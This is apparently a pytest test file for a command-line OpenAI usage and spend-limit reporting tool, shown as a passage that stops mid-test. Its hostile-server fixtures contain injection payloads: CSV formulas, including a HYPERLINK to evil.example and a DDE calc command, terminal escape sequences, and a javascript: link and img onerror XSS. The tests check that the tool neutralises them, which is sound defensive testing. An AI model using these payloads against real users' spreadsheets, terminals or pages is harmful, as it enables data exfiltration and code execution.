"""Names, not IDs, and spend against limits, from the command line: the report's limits on pinned payloads checked
by hand, names in tables and legends, `--ids`, `--names`, `--project-ids` by name, the listing commands in every
format, and a key that may not read the lists (403): IDs and one warning, never a failed report."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import Iterator
from datetime import UTC, date, datetime
from typing import Any

import httpx
import pytest
from oai_usage.cli.main import run
from oai_usage_sandbox import SandboxConfig, serve_in_thread
from pytest_httpx import HTTPXMock

from tests.overlay.cli.conftest import NOW, tiled_page

BASE = "https://api.openai.com/v1"
TODAY = NOW.date()  # Tuesday 2026-11-24, 15:30 UTC


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = run(list(argv), now=NOW)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


# --- pinned payloads: $100 per weekday, $40 per weekend day, $30 so far today, all in project "Alpha" -------------


def _day_amount(day: date) -> float:
    if day == TODAY:
        return 30.0
    return 40.0 if day.weekday() >= 5 else 100.0


def _listing(data: list[dict[str, Any]]) -> httpx.Response:
    last = data[-1]["id"] if data else None
    first = data[0]["id"] if data else None
    return httpx.Response(200, json={"object": "list", "data": data, "first_id": first, "last_id": last,
                                     "has_more": False})  # fmt: skip


PROJECTS = [
    {"id": "proj_a", "object": "organization.project", "name": "Alpha", "created_at": 1735689600,
     "archived_at": None, "status": "active"},
    {"id": "proj_b", "object": "organization.project", "name": "Beta", "created_at": 1735689600,
     "archived_at": None, "status": "active"},
]  # fmt: skip


def _limit(cents: int) -> httpx.Response:
    body = {"object": "organization.spend_limit", "threshold_amount": cents, "currency": "USD", "interval": "month",
            "enforcement": {"status": "inactive"}}  # fmt: skip
    return httpx.Response(200, json=body)


def _pinned(request: httpx.Request) -> httpx.Response:
    path = request.url.path
    if path.endswith("/organization/spend_limit"):
        return _limit(200_000)  # $2,000.00
    if path.endswith("/projects/proj_a/spend_limit"):
        return _limit(250_000)  # $2,500.00
    if path.endswith("/spend_limit"):
        return httpx.Response(404, json={"error": {"message": "no limit", "code": "spend_limit_not_set"}})
    if path.endswith("/organization/projects"):
        return _listing(PROJECTS)
    if "/usage/" not in path and not path.endswith("/costs"):
        return _listing([])

    def results(moment: int, step: int) -> list[dict[str, Any]]:
        if not path.endswith("/costs") or step != 86400:
            return []
        day = datetime.fromtimestamp(moment, UTC).date()
        return [{"object": "organization.costs.result", "amount": {"value": _day_amount(day), "currency": "usd"},
                 "line_item": "gpt-4o, input", "project_id": "proj_a"}]  # fmt: skip

    return tiled_page(request, results)


@pytest.fixture
def pinned(httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch) -> HTTPXMock:
    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-limits")
    httpx_mock.add_callback(_pinned, is_reusable=True)
    return httpx_mock


def test_limits_and_projection_equal_hand_computed_values(
    capsys: pytest.CaptureFixture[str], pinned: HTTPXMock
) -> None:
    code, out, err = cli(capsys, "--base-url", BASE, "report", "--since", "7d", "--format", "json")
    assert code == 0, err
    limits = json.loads(out)["limits"]
    org = limits["organization"]
    # Whole days Nov 1-23: 16 weekdays x 100 + 7 weekend days x 40 = 1880, plus 30 today: 1910 so far.
    assert org["month_to_date"] == pytest.approx(1910.0)
    # Today at the weekday pace (100), then Nov 25-30: 4 weekdays and 2 weekend days (480): 2460.
    assert org["projected_month_end"] == pytest.approx(2460.0)
    assert (org["pace_per_weekday"], org["pace_per_weekend_day"]) == (pytest.approx(100.0), pytest.approx(40.0))
    assert org["reached_on"] == "2026-11-25"  # 1880, 1980 (the 24th), 2080 (the 25th) >= 2000
    (alpha,) = limits["projects"]  # Beta has no limit: left out, not an error
    assert (alpha["scope"], alpha["name"], alpha["limit"]) == ("proj_a", "Alpha", 2500.0)
    assert alpha["reached_on"] is None and alpha["projected_share"] == pytest.approx(2460 / 2500)


def test_the_limits_table_names_projects_and_says_how_it_projects(
    capsys: pytest.CaptureFixture[str], pinned: HTTPXMock
) -> None:
    code, out, _ = cli(capsys, "--base-url", BASE, "report", "--since", "7d")
    assert code == 0
    flat = " ".join(out.split())
    assert "organization │ $2,000.00 │ $1,910.00 │ 95.5% │ $2,460.00 │ 123.0% │ 2026-11-25 (pace)" in flat
    assert "Alpha │ $2,500.00 │ $1,910.00 │ 76.4% │ $2,460.00 │ 98.4% │ not this month" in flat
    assert "mean spend of that kind of day (weekday or weekend) over the 28 whole UTC days" in flat
    assert "at least 80% of their limit this month: Alpha (98%)" in flat


def test_report_figures_still_equal_the_sums_with_a_project_filter(
    capsys: pytest.CaptureFixture[str], pinned: HTTPXMock
) -> None:
    code, out, err = cli(capsys, "--base-url", BASE, "report", "--start", "2026-11-16", "--end", "2026-11-23",
                         "--project-ids", "alpha", "--format", "json")  # fmt: skip
    assert code == 0, err
    data = json.loads(out)
    assert data["project_filter"] == ["proj_a"]
    assert data["spend"]["total"]["usd"] == pytest.approx(5 * 100 + 2 * 40)
    costs = [r for r in pinned.get_requests() if r.url.path.endswith("/costs") and "line_item" in str(r.url)]
    assert costs and all(r.url.params.get_list("project_ids") == ["proj_a"] for r in costs)


def test_an_unknown_project_name_exits_2_naming_the_allowed_names(
    capsys: pytest.CaptureFixture[str], pinned: HTTPXMock
) -> None:
    code, out, err = cli(capsys, "--base-url", BASE, "report", "--project-ids", "Gamma")
    assert (code, out) == (2, "")
    assert (
        err.strip() == "oai-usage: error: --project-ids: no project is named 'Gamma'; allowed: Alpha, Beta (or an ID)"
    )


# --- the sandbox: names by default, IDs on request ----------------------------------------------------------------


def test_report_tables_name_projects_and_ids_gives_ids(capsys: pytest.CaptureFixture[str]) -> None:
    code, named, _ = cli(capsys, "--sandbox", "report", "--since", "7d")
    assert code == 0 and "Research sandbox" in named and "proj_2LZiWo9txM4qTZ1c" not in named
    code, ids, _ = cli(capsys, "--sandbox", "report", "--since", "7d", "--ids")
    assert code == 0 and "proj_2LZiWo9txM4qTZ1c" in ids and "Research sandbox" not in ids


def test_the_charts_legend_names_projects_and_draws_the_limit() -> None:
    pytest.importorskip("matplotlib")
    import matplotlib.pyplot as plt
    from oai_usage.cli.commands.report import Options, build_report
    from oai_usage.cli.main import build_parser
    from oai_usage.cli.plot import draw

    argv = ["--sandbox", "report", "--since", "14d"]
    report = build_report(Options.from_args(build_parser(argv).parse_args(argv), NOW), NOW)
    fig = draw(report)
    try:
        legends = [[t.get_text() for t in ax.get_legend().get_texts()] for ax in fig.axes]
    finally:
        plt.close(fig)
    assert "Research sandbox" in legends[0] and not any(t.startswith("proj_") for t in legends[0])
    assert "organization spend limit $50,000" in legends[1]


def test_export_tables_show_names_and_csv_gains_name_columns_with_names(capsys: pytest.CaptureFixture[str]) -> None:
    argv = ["--sandbox", "usage", "completions", "--start", "1d", "--group-by", "project_id,api_key_id,user_id"]
    code, table, _ = cli(capsys, *argv)
    assert code == 0 and "Research sandbox" in table and "@example.com" in table
    code, ids, _ = cli(capsys, *argv, "--ids")
    assert code == 0 and "proj_2LZiWo9txM4qTZ1c" in ids and "Research sandbox" not in ids
    code, plain, _ = cli(capsys, *argv, "--format", "csv")
    assert "project_name" not in plain.splitlines()[0]
    code, out, _ = cli(capsys, *argv, "--format", "csv", "--names")
    rows = list(csv.DictReader(io.StringIO(out)))
    header = out.splitlines()[0].split(",")
    assert header.index("project_name") == header.index("project_id") + 1
    assert header.index("api_key_name") == header.index("api_key_id") + 1
    assert header.index("user_email") == header.index("user_id") + 1
    assert all(r["project_name"] for r in rows) and all(r["user_email"].endswith("@example.com") for r in rows)


# --- the listing commands, in every format ------------------------------------------------------------------------

LISTINGS = {
    "projects": ("id", "Research sandbox"),
    "users": ("email", "@example.com"),
    "keys": ("redacted_value", "sk-proj-"),
    "limits": ("amount", "organization"),
}


@pytest.mark.parametrize("fmt", ["table", "csv", "json", "jsonl"])
@pytest.mark.parametrize("command", list(LISTINGS))
def test_each_listing_command_in_each_format(command: str, fmt: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = cli(capsys, "--sandbox", command, "--format", fmt)
    assert (code, err) == (0, "")
    column, sample = LISTINGS[command]
    assert sample in out
    if fmt == "csv":
        rows: list[dict[str, Any]] = list(csv.DictReader(io.StringIO(out)))
    elif fmt == "json":
        rows = json.loads(out)
    elif fmt == "jsonl":
        rows = [json.loads(line) for line in out.splitlines()]
    else:
        assert "total" not in out  # a listing has no totals row
        return
    assert rows and all(column in row for row in rows)


def test_projects_lists_archived_ones_and_limits_are_dollars(capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = cli(capsys, "--sandbox", "projects", "--format", "json")
    assert {p["status"] for p in json.loads(out)} == {"active", "archived"}
    _, out, _ = cli(capsys, "--sandbox", "limits", "--format", "json")
    org = next(r for r in json.loads(out) if r["scope"] == "organization" and r["kind"] == "limit")
    assert org["amount"] == 50000.0 and org["currency"] == "USD"


def test_keys_never_show_more_than_the_redacted_value(capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = cli(capsys, "--sandbox", "keys", "--format", "json")
    keys = json.loads(out)
    assert {k["kind"] for k in keys} == {"project", "admin"}
    assert {k["owner_type"] for k in keys if k["kind"] == "project"} == {"user", "service_account"}
    assert all("..." in k["redacted_value"] for k in keys)


def test_completion_scripts_offer_the_new_commands_and_options(capsys: pytest.CaptureFixture[str]) -> None:
    for shell in ("bash", "zsh", "fish"):
        code, script, _ = cli(capsys, "completion", shell)
        assert code == 0
        for word in ("projects", "users", "keys", "limits", "project-ids", "ids", "names"):
            assert word in script, (shell, word)
    code, bash, _ = cli(capsys, "completion", "bash")
    assert "--project-ids" in bash and "--no-limits" in bash


# --- a key that may not read the lists ----------------------------------------------------------------------------


@pytest.fixture
def restricted_url() -> Iterator[str]:
    forbidden = ("listProjects", "listUsers", "listProjectApiKeys", "listAdminApiKeys",
                 "listProjectServiceAccounts", "getOrganizationSpendLimit")  # fmt: skip
    with serve_in_thread(SandboxConfig(now=int(NOW.timestamp()), forbidden_operations=forbidden)) as url:
        yield url


def test_a_restricted_key_gives_ids_and_one_warning_never_a_failed_report(
    restricted_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-restricted")
    caplog.set_level(logging.WARNING)
    code, out, _ = cli(capsys, "--base-url", restricted_url, "report", "--since", "7d")
    assert code == 0
    assert "proj_2LZiWo9txM4qTZ1c" in out and "Research sandbox" not in out
    warnings = [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING]
    assert len(warnings) == 1 and "(403)" in warnings[0] and "IDs are shown" in warnings[0]
    assert "spend limit is not readable with this key (403)" in " ".join(out.split())


# --- names are free text: never markup, never mathtext ------------------------------------------------------------


def test_a_name_that_looks_like_markup_is_shown_as_written() -> None:
    from oai_usage.cli import output

    buffer = io.StringIO()
    output.write_table([{"project": "Ops [/bold] [red]team"}], buffer, ("project",), title="Projects", totals_row=False)
    assert "Ops [/bold] [red]team" in buffer.getvalue()


def test_a_dollar_in_a_project_name_is_a_dollar_in_the_legend() -> None:
    pytest.importorskip("matplotlib")
    import matplotlib.pyplot as plt
    from oai_usage.cli.plot import chart_bytes, draw

    from tests.overlay.report.draft import Draft as Report
    from tests.overlay.report.draft import add_costs

    start = datetime(2026, 11, 20, tzinfo=UTC)
    report = Report(
        start=start, end=datetime(2026, 11, 21, tzinfo=UTC), previous_start=datetime(2026, 11, 19, tzinfo=UTC)
    )
    add_costs(report, [{"bucket_start": datetime(2026, 11, 20, tzinfo=UTC), "project_id": "proj_a", "line_item": "x",
                        "amount_value": 5.0}])  # fmt: skip
    report.names = {"proj_a": r"Save $\frac{$ now"}  # broken mathtext: drawing would fail if read as math
    assert chart_bytes(report.report, "png")[:4] == b"\x89PNG"
    fig = draw(report.report)
    try:
        assert fig.axes[0].get_legend().get_texts()[0].get_text() == r"Save \$\frac{\$ now"
    finally:
        plt.close(fig)


def test_a_name_two_projects_share_asks_for_the_id() -> None:
    from oai_usage import Directory, ProjectInfo, ValidationError
    from oai_usage.cli.organization import resolve_project_ids

    directory = Directory(projects={"proj_a": ProjectInfo("proj_a", "Ops", "active"),
                                    "proj_b": ProjectInfo("proj_b", "ops", "archived")})  # fmt: skip
    with pytest.raises(ValidationError, match=r"2 projects are named 'Ops' \(proj_a, proj_b\)"):
        resolve_project_ids(directory, ["Ops"])
    assert resolve_project_ids(directory, ["proj_b", "proj_a", "proj_b"]) == ["proj_b", "proj_a"]


# --- a hostile server: the admin key and terminal escapes in names ------------------------------------------------

HOSTILE_KEY = "sk-admin-test-hostile-0123456789abcdef"
ESCAPES = "\x1b[31mRED\x1b[0m\x1b]0;pwned\x07\u202e"
HOSTILE_NAME = f"Ops {ESCAPES}{HOSTILE_KEY}"


def _hostile(request: httpx.Request) -> httpx.Response:
    path = request.url.path
    if path.endswith("/organization/projects"):
        return _listing([{"id": "proj_a", "object": "organization.project", "name": HOSTILE_NAME,
                          "created_at": 1735689600, "archived_at": None, "status": "active"}])  # fmt: skip
    if path.endswith("/organization/users"):
        return _listing([{"id": "user_a", "object": "organization.user", "name": HOSTILE_NAME,
                          "email": f"{HOSTILE_KEY}@example.com", "role": "owner", "added_at": 1735689600}])  # fmt: skip
    if path.endswith("/api_keys"):
        return _listing([{"id": "key_a", "object": "organization.project.api_key", "name": HOSTILE_NAME,
                          "redacted_value": "sk-...abcd", "created_at": 1735689600, "last_used_at": None,
                          "owner": {"type": "user", "user": {"id": "user_a", "name": HOSTILE_NAME,
                                                             "email": HOSTILE_KEY}}}])  # fmt: skip
    if path.endswith("/spend_limit"):
        return httpx.Response(404, json={"error": {"message": "no limit", "code": "spend_limit_not_set"}})
    return _listing([])


@pytest.fixture
def hostile(httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch) -> HTTPXMock:
    monkeypatch.setenv("OPENAI_ADMIN_KEY", HOSTILE_KEY)
    httpx_mock.add_callback(_hostile, is_reusable=True)
    return httpx_mock


@pytest.mark.parametrize("command", ["projects", "users", "keys"])
@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_a_listing_never_prints_the_admin_key_a_server_echoes_in_a_name(
    command: str, fmt: str, capsys: pytest.CaptureFixture[str], hostile: HTTPXMock
) -> None:
    code, out, err = cli(capsys, "--base-url", BASE, command, "--format", fmt)
    assert code == 0, err
    assert "Ops" in out and HOSTILE_KEY not in out and HOSTILE_KEY not in err
    assert "sk-admin-***" in out


@pytest.mark.parametrize("command", ["projects", "users", "keys"])
def test_a_listing_table_shows_control_characters_instead_of_sending_them_to_the_terminal(
    command: str, capsys: pytest.CaptureFixture[str], hostile: HTTPXMock
) -> None:
    code, out, _ = cli(capsys, "--base-url", BASE, command)
    assert code == 0
    assert not any(char in out for char in "\x1b\x07\u202e")
    assert "\\x1b[31mRED" in out


def test_a_json_listing_keeps_control_characters_escaped_and_valid(
    capsys: pytest.CaptureFixture[str], hostile: HTTPXMock
) -> None:
    code, out, _ = cli(capsys, "--base-url", BASE, "projects", "--format", "json")
    assert code == 0 and "\x1b" not in out
    (project,) = json.loads(out)
    assert project["name"].startswith(f"Ops {ESCAPES}sk-admin")


def test_the_report_never_shows_the_key_or_escapes_from_a_project_name(
    capsys: pytest.CaptureFixture[str], hostile: HTTPXMock
) -> None:
    from oai_usage.cli.connect import open_client
    from oai_usage.cli.options import Connection
    from oai_usage.cli.organization import load_directory

    args = Connection(base_url=BASE)
    with open_client(args, NOW) as client:
        directory = load_directory(client)
    assert directory is not None
    name = directory.project_name("proj_a")
    assert name.startswith("Ops ") and HOSTILE_KEY not in name and "sk-admin-***" in name
    assert not any(char in name for char in "\x1b\x07\u202e")
    assert directory.user_email("user_a") == "sk-admin-***@example.com"
    assert HOSTILE_KEY not in directory.api_keys["key_a"].owner_name


def test_an_unknown_name_among_thousands_of_projects_gives_a_short_error_line() -> None:
    from oai_usage import Directory, ProjectInfo, ValidationError
    from oai_usage.cli.organization import resolve_project_ids

    projects = {f"proj_{i}": ProjectInfo(f"proj_{i}", f"Project {i:04d}", "active") for i in range(3000)}
    with pytest.raises(ValidationError) as caught:
        resolve_project_ids(Directory(projects=projects), ["Nope"])
    message = str(caught.value)
    assert "Project 0000" in message and "2980 more" in message and len(message) < 600


def _limit_in(currency: str) -> Any:
    def callback(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("/spend_limit"):
            body = {"object": "organization.spend_limit", "threshold_amount": 200_000, "currency": currency,
                    "interval": "month", "enforcement": {"status": "enforcing"}}  # fmt: skip
            return httpx.Response(200, json=body)
        return _pinned(request)

    return callback


def test_a_limit_in_another_currency_is_left_out_with_a_note_not_compared_with_dollars(
    capsys: pytest.CaptureFixture[str], httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-limits")
    httpx_mock.add_callback(_limit_in("EUR"), is_reusable=True)
    code, out, err = cli(capsys, "--base-url", BASE, "report", "--since", "7d", "--format", "json")
    assert code == 0, err
    report = json.loads(out)
    assert report["limits"]["organization"] is None and report["limits"]["projects"] == []
    assert any("EUR" in note for note in report["caveats"])


@pytest.fixture
def limits_forbidden_url() -> Iterator[str]:
    forbidden = ("getOrganizationSpendLimit", "getProjectSpendLimit", "listOrganizationSpendAlerts",
                 "listProjectSpendAlerts")  # fmt: skip
    with serve_in_thread(SandboxConfig(now=int(NOW.timestamp()), forbidden_operations=forbidden)) as url:
        yield url


def test_limits_with_a_key_that_may_not_read_them_lists_what_it_can_and_warns_once(
    limits_forbidden_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-restricted")
    caplog.set_level(logging.WARNING)
    code, out, err = cli(capsys, "--base-url", limits_forbidden_url, "limits", "--format", "jsonl")
    assert code == 0, err
    rows = [json.loads(line) for line in out.splitlines()]
    assert rows[0]["scope"] == "organization" and rows[0]["status"] == "not readable (403)"
    assert {r["kind"] for r in rows} == {"limit"} and len(rows) > 2
    warnings = [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING]
    assert len(warnings) == 1 and "(403)" in warnings[0]


def test_the_report_table_shows_escapes_in_server_text_instead_of_sending_them() -> None:
    from oai_usage.cli.render import print_report

    from tests.overlay.report.draft import Draft as Report
    from tests.overlay.report.draft import add_costs

    report = Report(
        start=datetime(2026, 11, 20, tzinfo=UTC),
        end=datetime(2026, 11, 21, tzinfo=UTC),
        previous_start=datetime(2026, 11, 19, tzinfo=UTC),
    )
    add_costs(report, [{"bucket_start": datetime(2026, 11, 20, tzinfo=UTC), "project_id": "proj_a", "line_item": "x",
                        "amount_value": 5.0}])  # fmt: skip
    report.names = {"proj_a": "Ops \x1b[2J"}
    buffer = io.StringIO()
    print_report(report.report, buffer)
    assert "\x1b" not in buffer.getvalue() and "Ops \\x1b[2J" in buffer.getvalue()


@pytest.mark.parametrize("moment", [10**20, -(10**20), 253402300800, 1.5e9])
def test_a_listing_with_a_time_no_calendar_holds_shows_it_empty_not_a_traceback(
    moment: float, capsys: pytest.CaptureFixture[str], httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-listing")
    project = {"id": "proj_a", "object": "organization.project", "name": "Alpha", "created_at": moment,
               "archived_at": None, "status": "active"}  # fmt: skip
    httpx_mock.add_response(json={"object": "list", "data": [project], "first_id": "proj_a", "last_id": "proj_a",
                                  "has_more": False})  # fmt: skip
    code, out, err = cli(capsys, "--base-url", BASE, "projects", "--format", "csv")
    assert (code, err) == (0, "")
    assert out.splitlines()[1] == "proj_a,Alpha,active,,"


@pytest.mark.parametrize("command", ["keys", "limits"])
def test_a_listing_reads_the_projects_side_by_side_and_keeps_their_order(
    command: str, capsys: pytest.CaptureFixture[str], httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
) -> None:
    import threading

    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-listing")
    both = threading.Barrier(2, timeout=10)  # two per-project reads must be in flight at once, or this times out
    seen: dict[str, int] = {}
    lock = threading.Lock()
    nth = 2 if command == "keys" else 1  # the directory reads each project's keys first (side by side already)

    def answer(request: httpx.Request) -> httpx.Response:
        path = request.url.path
        if path.endswith("/organization/projects"):
            return _listing(PROJECTS)
        project = path.split("/projects/")[-1].split("/")[0] if "/projects/" in path else ""
        wanted = "/api_keys" if command == "keys" else "/spend_limit"
        if project and path.endswith(wanted):
            with lock:
                seen[project] = seen.get(project, 0) + 1
                wait = seen[project] == nth
            if wait:
                both.wait()
        if path.endswith("/spend_limit"):
            return _limit(100 if project == "proj_a" else 200)
        if path.endswith("/api_keys") and project:
            return _listing([{"id": f"key_{project}", "object": "organization.project.api_key", "name": project,
                              "redacted_value": "sk-...abcd", "created_at": 1735689600, "owner": {}}])  # fmt: skip
        return _listing([])

    httpx_mock.add_callback(answer, is_reusable=True)
    code, out, err = cli(capsys, "--base-url", BASE, command, "--format", "jsonl")
    assert code == 0, err
    rows = [json.loads(line) for line in out.splitlines()]
    assert [r["project_id"] for r in rows if r["project_id"]] == ["proj_a", "proj_b"]


def test_a_very_long_project_name_is_shortened_in_the_legend() -> None:
    pytest.importorskip("matplotlib")
    import warnings

    import matplotlib.pyplot as plt
    from oai_usage.cli.plot import draw

    from tests.overlay.report.draft import Draft as Report
    from tests.overlay.report.draft import add_costs

    report = Report(
        start=datetime(2026, 11, 20, tzinfo=UTC),
        end=datetime(2026, 11, 21, tzinfo=UTC),
        previous_start=datetime(2026, 11, 19, tzinfo=UTC),
    )
    add_costs(report, [{"bucket_start": datetime(2026, 11, 20, tzinfo=UTC), "project_id": "proj_a", "line_item": "x",
                        "amount_value": 5.0}])  # fmt: skip
    report.names = {"proj_a": "Customer support " + "W" * 5000}
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # "Tight layout not applied": a legend wider than the figure
        fig = draw(report.report)
    try:
        text = fig.axes[0].get_legend().get_texts()[0].get_text()
        assert text.startswith("Customer support WWW") and text.endswith("…") and len(text) <= 48
    finally:
        plt.close(fig)


# --- Issue 26: odd limits give right figures and valid JSON; odd alert thresholds are refused ----------------------


def _with_project_limit(cents: object, status: str = "enforcing") -> Any:
    def callback(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("/projects/proj_a/spend_limit"):
            body = {"object": "project.spend_limit", "threshold_amount": cents, "currency": "USD",
                    "interval": "month", "enforcement": {"status": status}}  # fmt: skip
            return httpx.Response(200, json=body)
        return _pinned(request)

    return callback


def _strict_json(text: str) -> Any:
    def refuse(constant: str) -> None:
        raise ValueError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def test_an_enforced_zero_project_limit_is_reached_on_the_first_day_with_spend(
    capsys: pytest.CaptureFixture[str], httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-limits")
    httpx_mock.add_callback(_with_project_limit(0), is_reusable=True)
    code, out, err = cli(capsys, "--base-url", BASE, "report", "--since", "7d", "--format", "json")
    assert code == 0, err
    (alpha,) = _strict_json(out)["limits"]["projects"]
    assert alpha["limit"] == 0 and alpha["month_to_date"] == pytest.approx(1910.0)
    assert alpha["reached_on"] == "2026-11-01" and alpha["used"] is None  # Nov 1 (a Sunday) spent $40
    code, out, _ = cli(capsys, "--base-url", BASE, "report", "--since", "7d")
    row = next(line for line in out.splitlines() if line.startswith("│ Alpha") and "$0.00" in line)
    assert "over $0" in row and "2026-11-01 (reached)" in row and "not this month" not in row


def test_an_absurd_limit_is_left_out_and_the_json_stays_valid(
    capsys: pytest.CaptureFixture[str],
    httpx_mock: HTTPXMock,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-limits")
    httpx_mock.add_callback(_with_project_limit(10**400), is_reusable=True)
    code, out, _ = cli(capsys, "--base-url", BASE, "report", "--since", "7d", "--format", "json")
    assert code == 0
    report = _strict_json(out)
    assert report["limits"]["organization"] is None and "could not be read" in " ".join(report["caveats"])
    assert "threshold_amount must be a whole number of cents from 0 to 100000000000000" in caplog.text
    code, out, _ = cli(capsys, "--base-url", BASE, "report", "--since", "7d")
    assert code == 0 and "inf" not in out


@pytest.mark.parametrize("threshold", [-5000, "5000", 10**400, 12.5])
def test_an_alert_threshold_that_is_not_whole_cents_is_refused_in_one_line(
    threshold: object, capsys: pytest.CaptureFixture[str], httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
) -> None:
    def callback(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("/organization/spend_alerts"):
            return _listing([{"id": "alert_1", "object": "organization.spend_alert", "threshold_amount": threshold,
                              "currency": "USD", "interval": "month"}])  # fmt: skip
        return _pinned(request)

    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-limits")
    httpx_mock.add_callback(callback, is_reusable=True)
    code, out, err = cli(capsys, "--base-url", BASE, "limits", "--format", "json")
    assert (code, out) == (1, "")
    assert err == ("oai-usage: error: spend alert alert_1: threshold_amount must be a whole number of cents from 0 "
                   "to 100000000000000\n")  # fmt: skip


# --- Issue 26: names that are formulas, carriage returns, terminal escapes or Markdown links ------------------------

TRICKS = {
    "proj_f": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "proj_p": "+1+cmd|' /C calc'!A0",
    "proj_m": "-2+3",
    "proj_at": "@SUM(A1:A9)",
    "proj_cr": "Ops\rteam",
    "proj_esc": "\x1b]52;c;ZXZpbA==\x07\x1b]0;pwned\x07\x1b[2J\u202eevil",
    "proj_md": "[click](javascript:alert(1)) <img src=x onerror=alert(1)>",
}


def _tricky(request: httpx.Request) -> httpx.Response:
    path = request.url.path
    if path.endswith("/organization/projects"):
        return _listing([{"id": pid, "object": "organization.project", "name": name, "created_at": 1735689600,
                          "archived_at": None, "status": "active"} for pid, name in TRICKS.items()])  # fmt: skip
    if path.endswith("/organization/users"):
        return _listing([{"id": "user_f", "object": "organization.user", "name": TRICKS["proj_f"],
                          "email": "@evil.example", "role": "owner", "added_at": 1735689600}])  # fmt: skip
    if path.endswith("/projects/proj_f/api_keys"):
        return _listing([{"id": "key_f", "object": "organization.project.api_key", "name": TRICKS["proj_m"],
                          "redacted_value": "sk-...abcd", "created_at": 1735689600, "last_used_at": None,
                          "owner": {"type": "user", "user": {"id": "user_f", "name": TRICKS["proj_at"],
                                                             "email": "=1+1@evil.example"}}}])  # fmt: skip
    if path.endswith("/spend_limit"):
        return httpx.Response(404, json={"error": {"message": "no limit", "code": "spend_limit_not_set"}})
    if "/usage/" not in path and not path.endswith("/costs"):
        return _listing([])
    line_item = "=cmd|'/C calc'!A0" if "line_item" in request.url.params.get_list("group_by") else None

    def results(moment: int, step: int) -> list[dict[str, Any]]:
        if not path.endswith("/costs") or step != 86400:
            return []
        return [{"object": "organization.costs.result", "amount": {"value": 10.0, "currency": "usd"},
                 "line_item": line_item, "project_id": pid} for pid in TRICKS]  # fmt: skip

    return tiled_page(request, results)


@pytest.fixture
def tricky(httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch) -> HTTPXMock:
    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-tricks")
    httpx_mock.add_callback(_tricky, is_reusable=True)
    return httpx_mock


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _formula_like(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    "argv",
    [
        ["projects"],
        ["users"],
        ["keys"],
        ["costs", "--start", "2d", "--group-by", "project_id,line_item", "--names"],
        ["report", "--since", "2d", "--no-limits"],
    ],
    ids=["projects", "users", "keys", "costs --names", "report"],
)
def test_no_csv_cell_starts_like_a_formula_and_every_row_parses_back_whole(
    argv: list[str], capsys: pytest.CaptureFixture[str], tricky: HTTPXMock
) -> None:
    code, out, err = cli(capsys, "--base-url", BASE, *argv, "--format", "csv")
    assert code == 0, err
    rows = _cells(out)
    assert len({len(row) for row in rows}) == 1  # no row split by a carriage return
    assert not [cell for row in rows for cell in row if _formula_like(cell)]
    assert any(cell.startswith("'=") or cell.startswith("'@") for row in rows for cell in row)


def test_csv_raw_keeps_the_names_as_the_server_sent_them(capsys: pytest.CaptureFixture[str], tricky: HTTPXMock) -> None:
    code, out, _ = cli(capsys, "--base-url", BASE, "projects", "--format", "csv", "--csv-raw")
    assert code == 0
    names = {row[0]: row[1] for row in _cells(out)[1:]}
    assert names == TRICKS


def test_the_markdown_report_sends_no_terminal_escape_and_no_live_link(
    capsys: pytest.CaptureFixture[str], tricky: HTTPXMock
) -> None:
    code, out, _ = cli(capsys, "--base-url", BASE, "report", "--since", "2d", "--no-limits", "--format", "markdown")
    assert code == 0
    assert not any(char in out for char in "\x1b\x07\r\u202e")
    assert r"| \\x1b\]52;c;ZXZpbA==\\x07\\x1b\]0;pwned\\x07\\x1b\[2J\\u202eevil |" in out  # renders as \x1b]52;...
    assert "](javascript:" not in out.replace("\\](javascript:", "") and "<img" not in out.replace("\\<img", "")
    assert r"| \[click\](javascript:alert(1)) \<img src=x onerror=alert(1)\> |" in out


@pytest.mark.parametrize("where", ["message", "type", "code", "param", "x-request-id"])
def test_an_error_line_shows_escapes_a_server_puts_in_its_error_instead_of_sending_them(
    where: str, capsys: pytest.CaptureFixture[str], httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
) -> None:
